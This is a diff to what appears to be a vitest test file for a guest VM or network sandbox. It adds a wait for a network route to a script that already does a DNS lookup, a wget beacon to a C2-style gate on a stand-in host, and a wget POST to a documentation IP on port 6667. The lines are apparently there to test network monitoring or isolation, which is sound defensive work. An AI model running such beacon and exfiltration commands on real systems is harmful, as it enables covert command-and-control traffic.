@@ -6,6 +6,7 @@ import { expect } from 'vitest'
 const GUEST_MS = 90_000
 
 const SCRIPT = `
+until ip route | grep -q default; do sleep 0.1; done
 nslookup plain.example >/dev/null
 wget -q -O - 'http://c2.example/gate?id=7'
 wget -q -O - --post-data hello=1 http://203.0.113.5:6667/x
